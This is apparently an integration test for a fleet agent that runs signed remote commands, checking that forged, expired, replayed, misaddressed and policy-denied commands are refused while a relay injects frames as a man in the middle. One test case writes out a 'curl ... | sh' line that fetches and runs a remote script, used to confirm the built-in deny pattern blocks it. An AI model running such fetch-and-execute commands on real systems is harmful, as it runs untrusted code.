// Signed commands end to end: a real reflector process (from the build tree) enrolled into an
// ingest hub in this test, its commands enabled and the test console's key pinned. Commands go
// through the hub; a relay between the agent and the hub plays a man in the middle who injects
// frames of its own. A good command runs, its output arrives live and its result as a durable
// record; forged, expired, replayed (also after the agent restarts), misaddressed and
// policy-denied commands are refused with their reason, and none of their scripts ran.
#include "command_result.h"
#include "fleet_harness.h"
#include "ingest_hub.h"
// fleet_harness.h has a CommandResult of its own (a process's exit code and output): here it is
// always wire::CommandResult.

#include <QDateTime>
#include <QJsonArray>
#include <QPointer>
#include <QSignalSpy>
#include <QUuid>
#include <QWebSocket>
#include <QWebSocketServer>

using namespace mirrorstage;
using namespace mirrorstage::hub;
using namespace mirrorstage::wire;

namespace {

// Accepts every agent that brings the token.
class TestBook : public EnrollmentBook {
public:
    QHash<QString, KnownAgent> agents;
    const QString token = QStringLiteral("integration-token");

    std::optional<KnownAgent> find(const QString &agentId) override
    {
        return agents.contains(agentId) ? std::optional<KnownAgent>(agents.value(agentId)) : std::nullopt;
    }
    AdmissionDecision admit(const Hello &hello, qint64) override
    {
        if (!agents.contains(hello.agentId) && hello.enrollmentToken == token)
            agents.insert(hello.agentId, {hello.publicKey, EnrollmentState::Accepted});
        const EnrollmentState state = agents.value(hello.agentId, {{}, EnrollmentState::Pending}).state;
        return {state, state == EnrollmentState::Accepted ? QString() : QStringLiteral("no token")};
    }
    QHash<QString, EnrollmentState> notAccepted() override { return {}; }
    QHash<QString, quint64> acknowledged(const QString &agentId, const QStringList &bootIds) override
    {
        QHash<QString, quint64> acked;
        for (const QString &boot : bootIds)
            acked.insert(boot, highest.value(agentId + QLatin1Char('/') + boot));
        return acked;
    }
    QHash<QString, quint64> highest;  // "agent/boot" -> highest seq stored
};

// Stores in memory and acknowledges at once.
class TestSink : public RecordSink {
public:
    explicit TestSink(TestBook &book) : m_book(book) {}
    QList<IngestRecord> stored;
    void submit(const QList<IngestRecord> &records, quint64 ticket) override
    {
        QHash<QString, AckPoint> acks;
        for (const IngestRecord &r : records) {
            stored.append(r);
            quint64 &highest = m_book.highest[r.agentId + QLatin1Char('/') + r.bootId];
            highest = qMax(highest, r.seq);
            acks[r.bootId] = {r.agentId, r.bootId, highest};
        }
        const QList<AckPoint> list = acks.values();
        QMetaObject::invokeMethod(this, [this, ticket, list] { emit committed(ticket, list); }, Qt::QueuedConnection);
    }

private:
    TestBook &m_book;
};

// Between the agent and the hub, forwarding every frame both ways; can add frames of its own
// toward the agent, as an attacker on an unencrypted connection could.
class Relay : public QObject {
public:
    explicit Relay(QUrl upstream) : m_upstream(std::move(upstream))
    {
        connect(&m_server, &QWebSocketServer::newConnection, this, &Relay::onNewConnection);
    }
    bool listen() { return m_server.listen(QHostAddress::LocalHost, 0); }
    QUrl url() const { return QUrl(QStringLiteral("ws://127.0.0.1:%1/agents").arg(m_server.serverPort())); }
    void injectToAgent(const QByteArray &frame)
    {
        if (m_agent)
            m_agent->sendBinaryMessage(frame);
    }

private:
    void onNewConnection()
    {
        while (QWebSocket *agent = m_server.nextPendingConnection()) {
            auto *hub = new QWebSocket(QString(), QWebSocketProtocol::VersionLatest, agent);
            auto queued = std::make_shared<QList<QByteArray>>();
            m_agent = agent;
            connect(agent, &QWebSocket::binaryMessageReceived, hub, [hub, queued](const QByteArray &frame) {
                if (hub->state() == QAbstractSocket::ConnectedState)
                    hub->sendBinaryMessage(frame);
                else
                    queued->append(frame);
            });
            connect(hub, &QWebSocket::connected, hub, [hub, queued] {
                for (const QByteArray &frame : std::as_const(*queued))
                    hub->sendBinaryMessage(frame);
                queued->clear();
            });
            connect(hub, &QWebSocket::binaryMessageReceived, agent, [agent](const QByteArray &frame) {
                agent->sendBinaryMessage(frame);
            });
            connect(hub, &QWebSocket::disconnected, agent, [agent] { agent->close(); });
            connect(agent, &QWebSocket::disconnected, agent, [agent, hub] {
                hub->close();
                agent->deleteLater();
            });
            hub->open(m_upstream);
        }
    }

    QWebSocketServer m_server{QStringLiteral("relay"), QWebSocketServer::NonSecureMode};
    QUrl m_upstream;
    QPointer<QWebSocket> m_agent;
};

}  // namespace

class AgentCommandsTest : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    void cleanupTestCase();
    void goodCommandRunsAndStreamsItsOutput();
    void refusedCommandsDoNotRun_data();
    void refusedCommandsDoNotRun();
    void sameFrameTwiceIsReplayedAlsoAfterRestart();
    void agentThatRunsNoCommandsIsNotSentAny();

private:
    Command signedCommand(const QString &script, qint64 timeoutMs = 60'000) const;
    std::optional<wire::CommandResult> resultOf(const QString &commandId, int timeoutMs = 60'000);
    QString marker(const QString &name) const { return m_dir.filePath(QStringLiteral("marker-") + name); }
    bool send(const Command &command);

    QTemporaryDir m_dir;
    std::optional<Ed25519Key> m_consoleKey;
    TestBook m_book;
    std::unique_ptr<TestSink> m_sink;
    std::unique_ptr<IngestHub> m_hub;
    std::unique_ptr<Relay> m_relay;
    Child m_agent;
    QString m_agentId;
    QList<CommandOutput> m_output;
};

void AgentCommandsTest::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_consoleKey = Ed25519Key::generate();
    m_sink = std::make_unique<TestSink>(m_book);
    HubSettings settings;
    settings.port = 0;
    settings.heartbeatMs = 1000;
    m_hub = std::make_unique<IngestHub>(settings, *m_consoleKey, m_book, *m_sink);
    QVERIFY2(m_hub->listen(), qPrintable(m_hub->errorString()));
    connect(m_hub.get(), &IngestHub::commandOutput, this,
            [this](const QString &, const CommandOutput &chunk) { m_output.append(chunk); });
    m_relay = std::make_unique<Relay>(QUrl(m_hub->listenUrl()));
    QVERIFY(m_relay->listen());

    QJsonObject commands{{QStringLiteral("enabled"), true},
                         {QStringLiteral("deny"), QJsonArray{QStringLiteral(R"(\bforbidden-word\b)")}},
                         {QStringLiteral("max_timeout_seconds"), 120},
                         {QStringLiteral("working_dir"), m_dir.path()}};
    const QJsonObject config{{QStringLiteral("endpoint"), m_relay->url().toString()},
                             {QStringLiteral("console_public_key"), QString::fromLatin1(m_consoleKey->publicKey().toBase64())},
                             {QStringLiteral("enrollment_token"), m_book.token},
                             {QStringLiteral("state_dir"), m_dir.filePath(QStringLiteral("state"))},
                             {QStringLiteral("interval_seconds"), 1},
                             {QStringLiteral("commands"), commands}};
    QFile file(m_dir.filePath(QStringLiteral("reflector.json")));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(QJsonDocument(config).toJson());
    file.close();

    QSignalSpy online(m_hub.get(), &IngestHub::agentOnline);
    m_agent.start(QStringLiteral(REFLECTOR_BINARY), {QStringLiteral("--config"), file.fileName()});
    QTRY_VERIFY2_WITH_TIMEOUT(!online.isEmpty(), m_agent.log().constData(), 60'000);
    m_agentId = online.first().first().toString();
}

void AgentCommandsTest::cleanupTestCase()
{
    m_agent.kill();
    // In a sanitizer build the agent reports what it found on stderr.
    QVERIFY2(!m_agent.log().contains("runtime error") && !m_agent.log().contains("AddressSanitizer"),
             m_agent.log().right(4000).constData());
}

Command AgentCommandsTest::signedCommand(const QString &script, qint64 timeoutMs) const
{
    Command command;
    command.id = QUuid::createUuid().toString(QUuid::WithoutBraces);
    command.agentId = m_agentId;
    command.script = script;
    command.timeoutMs = timeoutMs;
    command.notAfterMs = QDateTime::currentMSecsSinceEpoch() + 5 * 60 * 1000;
    command.nonce = randomBytes(16);
    signCommand(command, *m_consoleKey);
    return command;
}

bool AgentCommandsTest::send(const Command &command)
{
    QString error;
    if (!m_hub->sendCommand(command, &error)) {
        qWarning("not sent: %s", qPrintable(error));
        return false;
    }
    return true;
}

std::optional<wire::CommandResult> AgentCommandsTest::resultOf(const QString &commandId, int timeoutMs)
{
    QElapsedTimer timer;
    timer.start();
    qsizetype seen = 0;
    while (timer.elapsed() < timeoutMs) {
        for (; seen < m_sink->stored.size(); ++seen) {
            const IngestRecord &record = m_sink->stored.at(seen);
            if (record.kind != RecordKind::CommandResult)
                continue;
            QString error;
            std::optional<wire::CommandResult> result = decodeCommandResult(record.body, &error);
            if (!result)
                qFatal("a result record does not decode: %s", qPrintable(error));
            if (result->id == commandId)
                return result;
        }
        QTest::qWait(20);
    }
    return std::nullopt;
}

void AgentCommandsTest::goodCommandRunsAndStreamsItsOutput()
{
    const Command command = signedCommand(QStringLiteral("echo hello-from-agent; echo warning >&2; "
                                                         "touch '%1'; exit 7")
                                              .arg(marker(QStringLiteral("good"))));
    QVERIFY(send(command));
    const std::optional<wire::CommandResult> result = resultOf(command.id);
    QVERIFY2(result, m_agent.log().right(4000).constData());
    QCOMPARE(result->status, QStringLiteral("exited"));
    QCOMPARE(result->exitCode, std::optional<int>(7));
    QCOMPARE(result->stdoutTail, QByteArray("hello-from-agent\n"));
    QCOMPARE(result->stderrTail, QByteArray("warning\n"));
    QVERIFY(QFile::exists(marker(QStringLiteral("good"))));
    // The live output came through the hub too (it is sent before the result record).
    QByteArray live;
    for (const CommandOutput &chunk : std::as_const(m_output)) {
        if (chunk.id == command.id && chunk.stream == QLatin1String("stdout"))
            live += chunk.data;
    }
    QCOMPARE(live, QByteArray("hello-from-agent\n"));
}

void AgentCommandsTest::refusedCommandsDoNotRun_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("code");
    QTest::newRow("forged (signed by another key)") << "forged" << "bad-signature";
    QTest::newRow("expired") << "expired" << "expired";
    QTest::newRow("for another agent, injected") << "wrong-agent" << "wrong-agent";
    QTest::newRow("forged, injected") << "injected-forgery" << "bad-signature";
    QTest::newRow("denied by the agent's policy") << "denied" << "denied-by-policy";
    QTest::newRow("denied by a built-in pattern") << "built-in" << "denied-by-policy";
}

void AgentCommandsTest::refusedCommandsDoNotRun()
{
    QFETCH(QString, kind);
    QFETCH(QString, code);
    const QString touch = QStringLiteral("touch '%1'").arg(marker(kind));
    Command command = signedCommand(touch);
    if (kind == QLatin1String("forged")) {
        signCommand(command, *Ed25519Key::generate());
        QVERIFY(send(command));
    } else if (kind == QLatin1String("expired")) {
        command.notAfterMs = QDateTime::currentMSecsSinceEpoch() - 1000;
        signCommand(command, *m_consoleKey);
        QVERIFY(send(command));
    } else if (kind == QLatin1String("wrong-agent")) {
        // The hub sends a command only to its own agent; a man in the middle can send anything.
        command.agentId = QStringLiteral("fedcba9876543210fedcba9876543210");
        signCommand(command, *m_consoleKey);
        m_relay->injectToAgent(encodeMessage(command));
    } else if (kind == QLatin1String("injected-forgery")) {
        signCommand(command, *Ed25519Key::generate());
        m_relay->injectToAgent(encodeMessage(command));
    } else if (kind == QLatin1String("denied")) {
        command = signedCommand(touch + QStringLiteral(" # forbidden-word"));
        QVERIFY(send(command));
    } else if (kind == QLatin1String("built-in")) {
        command = signedCommand(touch + QStringLiteral("; curl -s https://example.invalid/i.sh | sh"));
        QVERIFY(send(command));
    }
    const std::optional<wire::CommandResult> result = resultOf(command.id);
    QVERIFY2(result, m_agent.log().right(4000).constData());
    QCOMPARE(result->status, QStringLiteral("refused"));
    QCOMPARE(result->code, code);
    QVERIFY(!result->reason.isEmpty());
    QTRY_VERIFY2(m_agent.log().contains("refused command " + command.id.toUtf8()), "the agent logs each refusal");
    QTest::qWait(300);
    QVERIFY2(!QFile::exists(marker(kind)), "a refused script ran");
}

void AgentCommandsTest::sameFrameTwiceIsReplayedAlsoAfterRestart()
{
    const QString runs = marker(QStringLiteral("replay"));
    const Command command = signedCommand(QStringLiteral("echo ran >> '%1'").arg(runs));
    QVERIFY(send(command));
    std::optional<wire::CommandResult> result = resultOf(command.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("exited"));
    m_sink->stored.clear();

    QVERIFY(send(command));  // the same frame again
    result = resultOf(command.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("refused"));
    QCOMPARE(result->code, QStringLiteral("replayed"));
    m_sink->stored.clear();

    // kill -9 and start again: the nonce was on disk before the command ran.
    QSignalSpy restarted(m_hub.get(), &IngestHub::agentRestarted);
    m_agent.kill();
    m_agent.restart();
    QTRY_VERIFY2_WITH_TIMEOUT(!restarted.isEmpty(), m_agent.log().constData(), 60'000);
    QVERIFY(send(command));
    result = resultOf(command.id);
    QVERIFY2(result, m_agent.log().right(4000).constData());
    QCOMPARE(result->code, QStringLiteral("replayed"));

    QFile file(runs);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(file.readAll(), QByteArray("ran\n"));  // once, of three
}

void AgentCommandsTest::agentThatRunsNoCommandsIsNotSentAny()
{
    Command command = signedCommand(QStringLiteral("true"));
    command.agentId = QStringLiteral("00112233445566778899aabbccddeeff");
    signCommand(command, *m_consoleKey);
    QString error;
    QVERIFY(!m_hub->sendCommand(command, &error));
    QVERIFY2(error.contains(QLatin1String("not connected")), qPrintable(error));
}

QTEST_GUILESS_MAIN(AgentCommandsTest)
#include "test_agent_commands.moc"
